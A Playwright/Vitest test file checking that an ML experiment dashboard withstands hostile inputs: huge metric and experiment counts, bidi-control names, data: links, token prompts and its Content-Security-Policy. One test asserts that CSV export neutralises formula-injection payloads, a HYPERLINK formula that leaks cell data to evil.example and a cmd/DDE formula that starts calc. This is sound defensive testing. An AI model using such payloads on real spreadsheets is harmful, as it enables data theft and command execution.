import { readFileSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { Stack } from './mlboardHarness.js';
import { FIXTURE_GS, fixtureStorage, launchChromium, openPage, screenshot, startStack } from './mlboardHarness.js';
import type { HostileRest } from './mlboardHostile.js';
import {
  HOSTILE_NAMES_GS,
  MANY_EXPERIMENTS_GS,
  MANY_SERIES_GS,
  REVERSED_METRIC,
  startHostileRest,
  writeHostileNames,
  writeManyExperiments,
  writeManySeries,
} from './mlboardHostile.js';

/*
 * MLboard against hostile data and hostile links (issue 24), in Chromium: what a person sees, and that
 * the page stays responsive. The inputs are made here, of the classes the adversarial pass found.
 */

const EXPERIMENTS = Number(process.env['MLGYM_HOSTILE_EXPERIMENTS'] ?? 1_000_000);
const GRID_SEARCHES = 1_000_000;
const poll = <T>(read: () => Promise<T> | T, timeout = 30_000) => expect.poll(read, { timeout, interval: 100 });

/** The longest main-thread task since the page opened (PerformanceObserver 'longtask'), in ms. */
async function longestTask(page: Page): Promise<number> {
  return page.evaluate(() => (window as unknown as { __longest?: number }).__longest ?? 0);
}

async function watchLongTasks(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const w = window as unknown as { __longest?: number };
    w.__longest = 0;
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) w.__longest = Math.max(w.__longest ?? 0, e.duration);
    }).observe({ type: 'longtask', buffered: true });
  });
}

describe('MLboard with hostile data and links', { timeout: 180_000 }, () => {
  let stack: Stack;
  let browser: Browser;
  let rest: HostileRest;
  const errors: string[][] = [];
  const link = (path: string, gs: string, restUrl = `http://127.0.0.1:${stack.rest.port}`) =>
    `${stack.board.origin}${path}?rest_endpoint=${restUrl}&ws_endpoint=http://127.0.0.1:${stack.ws.port}&run_id=${gs}`;
  const fresh = async () => {
    const opened = await openPage(browser);
    errors.push(opened.errors);
    return opened;
  };

  let storage: string;
  beforeAll(async () => {
    storage = fixtureStorage();
    writeManySeries(storage);
    writeHostileNames(storage);
    await writeManyExperiments(storage, EXPERIMENTS);
    [stack, browser, rest] = await Promise.all([
      startStack(storage),
      launchChromium(),
      startHostileRest(GRID_SEARCHES),
    ]);
  }, 180_000);
  afterAll(async () => {
    expect(errors.flat()).toEqual([]);
    await browser?.close();
    await stack?.stop();
    await rest?.close();
    // the million-experiment log is 200 MB
    if (storage) rmSync(storage, { recursive: true, force: true });
  });

  it('100,000 metric names: the first 1,000 series are kept, 100 charts drawn, the rest listed; the page answers', async () => {
    const { context, page } = await fresh();
    await watchLongTasks(context);
    await page.goto(link('/', MANY_SERIES_GS));
    const leftOut = page.getByTestId('series-left-out');
    await leftOut.waitFor({ timeout: 60_000 });
    expect(await leftOut.innerText()).toContain('more than 1,000 series: 99,000 more were left out (99,000 scores)');
    expect(await leftOut.innerText()).toContain('val_metric_001000, val_metric_001001');
    await poll(() => page.locator('canvas[role="img"]').count()).toBe(100);
    expect(await page.getByTestId('charts-not-drawn').innerText()).toContain('900 more charts match');
    await screenshot(page, 'hostile-many-series');
    // the name filter picks which are drawn
    await page.getByLabel('Filter charts').fill('metric_000999$');
    await poll(() => page.locator('canvas[role="img"]').count()).toBe(1);
    expect(await page.getByTestId('charts-not-drawn').count()).toBe(0);
    const chartsMs = await longestTask(page);
    await page.getByRole('button', { name: 'Open menu' }).click();
    await page.getByRole('navigation').getByRole('button', { name: 'Dashboard' }).click();
    const columns = page.getByTestId('columns-left-out');
    await columns.waitFor({ timeout: 30_000 });
    expect(await columns.innerText()).toContain('900 more columns');
    await screenshot(page, 'hostile-many-columns');
    await page.getByText('1 of 1 experiments').waitFor();
    const longest = await longestTask(page);
    console.log(
      `100,000 metric names: longest main-thread task ${chartsMs.toFixed(0)} ms (charts), ${longest.toFixed(0)} ms (with the table)`,
    );
    expect(longest).toBeLessThan(3_000);
    await context.close();
  });

  it(`a history of ${EXPERIMENTS.toLocaleString('en-US')} experiments: the first 10,000 shown, the rest counted, no task of seconds`, async () => {
    const { context, page } = await fresh();
    await watchLongTasks(context);
    const t0 = Date.now();
    await page.goto(link('/dashboard', MANY_EXPERIMENTS_GS));
    await page.getByText('This grid search has more than 10,000 experiments').waitFor({ timeout: 120_000 });
    await page.getByText('10000 of 10000 experiments').waitFor({ timeout: 60_000 });
    await poll(
      () =>
        page
          .getByText(`${(EXPERIMENTS - 10_000).toLocaleString('en-US')} events of further experiments were left out`)
          .count(),
      120_000,
    ).toBe(1);
    const longest = await longestTask(page);
    console.log(
      `${EXPERIMENTS} experiments: table after ${Date.now() - t0} ms, longest main-thread task ${longest.toFixed(0)} ms`,
    );
    expect(longest).toBeLessThan(3_000);
    await context.close();
  });

  it('a config value that is a formula and a name with U+202E: the CSV neutralises and isolates them', async () => {
    const { context, page } = await fresh();
    await page.goto(link('/dashboard', HOSTILE_NAMES_GS));
    await page.getByText('2 of 2 experiments').waitFor({ timeout: 30_000 });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    const csv = readFileSync(await download.path(), 'utf8');
    const [header, ...rows] = csv.trim().split(/\r?\n/);
    expect(header).toContain(`"\u2068val_${REVERSED_METRIC}\u2069"`);
    expect(rows.join('\n')).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(rows.join('\n')).toContain(`"'-2+3+cmd|""/c calc""!A0"`);
    expect(rows.join('\n')).toContain('"-0.5"');
    // the chart names it isolated too
    await page.goto(link('/', HOSTILE_NAMES_GS));
    await page.getByRole('region', { name: `Chart \u2068val_${REVERSED_METRIC}\u2069` }).waitFor({ timeout: 30_000 });
    await context.close();
  });

  it("links: a data: endpoint is refused with a message; a link's endpoints are not saved; one naming only an endpoint asks first", async () => {
    const { context, page } = await fresh();
    const bad = `${stack.board.origin}/?rest_endpoint=http://127.0.0.1:${stack.rest.port}&ws_endpoint=${encodeURIComponent('data:text/plain,made up')}&run_id=${FIXTURE_GS}`;
    await page.goto(bad);
    await page
      .getByText("The link's ws_endpoint was refused: only http:// and https:// endpoints are allowed, not data:.")
      .first()
      .waitFor();
    expect(await page.getByRole('dialog', { name: 'Enter Configurations' }).count()).toBe(1);
    expect(await page.evaluate(() => localStorage.getItem('SettingConfigs'))).toBeNull();
    // the printed URL connects this tab, and saves nothing
    await page.goto(link('/', FIXTURE_GS));
    await poll(() => page.locator('canvas[role="img"]').count()).toBeGreaterThan(0);
    expect(await page.evaluate(() => localStorage.getItem('SettingConfigs'))).toBeNull();
    // confirmed in Settings, it is saved
    await page.getByRole('button', { name: 'Open menu' }).click();
    await page.getByRole('navigation').getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('button', { name: 'Reconnect' }).click();
    await poll(() => page.evaluate(() => localStorage.getItem('SettingConfigs'))).toContain(FIXTURE_GS);
    // a link naming only a REST endpoint is not merged with the stored run id into a connection: it asks
    await page.goto(`${stack.board.origin}/?rest_endpoint=${rest.url}`);
    const dialog = page.getByRole('dialog', { name: 'Enter Configurations' });
    await dialog.waitFor();
    expect(await dialog.getByLabel('Rest API Url').inputValue()).toBe(rest.url);
    expect(await page.evaluate(() => localStorage.getItem('SettingConfigs'))).not.toContain(rest.url);
    await context.close();
  });

  it('a hostile REST endpoint: a million grid searches stay a short list with a filter; null checkpoints are explained', async () => {
    const { context, page } = await fresh();
    await watchLongTasks(context);
    await page.goto(stack.board.origin);
    const dialog = page.getByRole('dialog', { name: 'Enter Configurations' });
    await dialog.getByLabel('Rest API Url').fill(rest.url);
    await dialog
      .getByText('1,000,000 of 1,000,000 grid searches; the first 100,000 are listed')
      .waitFor({ timeout: 60_000 });
    expect(await dialog.locator('[role="listitem"]').count()).toBeLessThan(30);
    await screenshot(page, 'million-grid-searches');
    await dialog.getByLabel('Find a grid search').fill('gs-0000042');
    await dialog.getByRole('button', { name: /^gs-0000042/ }).click();
    expect(await dialog.getByLabel('Grid Search-id').inputValue()).toBe('gs-0000042');
    console.log(`a million grid searches: longest main-thread task ${(await longestTask(page)).toFixed(0)} ms`);
    // the experiment page of a grid search whose REST endpoint lists null checkpoints
    await page.goto(link('/experiment', FIXTURE_GS, rest.url).replace('/experiment?', '/experiment?experiment_id=1&'));
    await page
      .getByText(
        /^No checkpoints listed: the endpoint's answer to checkpointList is not what the protocol says: at 0: /,
      )
      .waitFor({ timeout: 30_000 });
    await page.getByRole('heading', { name: 'Experiment: 1' }).waitFor();
    await context.close();
  });

  it('a REST endpoint that asks for a token: the dialog names it; the token is kept for this tab, out of links and localStorage', async () => {
    const locked = await startHostileRest(3, 's3cret');
    try {
      const { context, page } = await fresh();
      await page.goto(stack.board.origin);
      const popup = page.getByRole('dialog', { name: 'Enter Configurations' });
      await popup.getByLabel('Rest API Url').fill(locked.url);
      const dialog = page.getByRole('dialog', { name: 'Sign in to the REST endpoint' });
      await dialog.waitFor();
      expect(await dialog.innerText()).toContain(`${locked.url} asks for a token: a token is required`);
      await screenshot(page, 'token-dialog');
      await dialog.getByLabel('Token').fill('wrong');
      await dialog.getByRole('button', { name: 'Sign in' }).click();
      await dialog.getByText(`${locked.url} refused the token it was sent: unknown token`).waitFor();
      await dialog.getByLabel('Token').fill('s3cret');
      await dialog.getByRole('button', { name: 'Sign in' }).click();
      await popup.getByRole('button', { name: /^gs-0000003/ }).waitFor();
      expect(await dialog.count()).toBe(0);
      const kept = await page.evaluate(() => ({ ...sessionStorage }));
      expect(kept).toEqual({ [`mlboard.token ${locked.url}`]: 's3cret' });
      expect(page.url()).not.toContain('s3cret');
      expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain('s3cret');
      await context.close();
    } finally {
      await locked.close();
    }
  });

  it("every page runs under ml_board's Content-Security-Policy: no inline script, no eval, no violation", async () => {
    // pages served through route.fulfill (here: to add the header) need Chromium's local network checks off
    const cspBrowser = await launchChromium({ fulfilledPages: true });
    try {
      const { context, page, errors: seen } = await openPage(cspBrowser);
      errors.push(seen);
      await context.route(`${stack.board.origin}/**`, async (route) => {
        try {
          const response = await route.fetch();
          // ml_board's own policy, with a report-uri: violations in the socket worker are reported too (they
          // reach no console)
          const policy = response.headers()['content-security-policy'] ?? '';
          expect(policy).toMatch(/(^|; )script-src 'self'(;|$)/);
          const csp = `${policy}; report-uri ${rest.url}/csp-report`;
          const headers: Record<string, string> = { ...response.headers(), 'content-security-policy': csp };
          delete headers['content-encoding'];
          delete headers['content-length'];
          await route.fulfill({ response, headers, body: await response.body() });
        } catch {
          // the context closed while a request was on its way
        }
      });
      const pages: Array<[string, string]> = [
        ['/', ''],
        ['/dashboard', ''],
        ['/experiment', '&experiment_id=1'],
        ['/modelcard', '&experiment_id=1'],
        ['/sweep', ''],
        ['/compare', '&ids=0,1'],
        ['/cv-report', ''],
        ['/settings', ''],
      ];
      for (const [path, query] of pages) {
        await page.goto(link(path, FIXTURE_GS) + query);
        await page.getByRole('button', { name: 'Open menu' }).waitFor();
        // the socket worker ran under the policy too: the history is in
        await poll(() =>
          page.evaluate(
            () =>
              (window as unknown as { __mlboard?: { historyDoneAt: number | null } }).__mlboard?.historyDoneAt ?? null,
          ),
        ).not.toBeNull();
      }
      await page.getByRole('button', { name: 'Open menu' }).click();
      await page.getByRole('navigation').getByRole('button', { name: 'Graphs' }).click();
      await poll(() => page.locator('canvas[role="img"]').count()).toBeGreaterThan(0);
      // the policy was in force: an inline script is refused (and reported: the one report of the test)
      expect(
        await page.evaluate(() => {
          const script = document.createElement('script');
          script.textContent = 'window.__inlineRan = true';
          document.head.append(script);
          return (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false;
        }),
      ).toBe(false);
      await poll(() => seen.length).toBe(1);
      expect(seen.splice(0)).toEqual([
        expect.stringMatching(/^console: Executing inline script violates .*script-src 'self'/),
      ]);
      // the reports: that inline script and nothing else (an eval, e.g. zod's probe in the page or the worker, would be one)
      const blocked = () =>
        rest.cspReports.map((r) => {
          const report = (JSON.parse(r) as { 'csp-report': { 'blocked-uri': string; 'document-uri': string } })[
            'csp-report'
          ];
          return `${report['blocked-uri']} in ${new URL(report['document-uri']).pathname}`;
        });
      await poll(blocked).toContain('inline in /analysisboard');
      expect(blocked()).toEqual(['inline in /analysisboard']);
      await context.close();
    } finally {
      await cspBrowser.close();
    }
  });
});
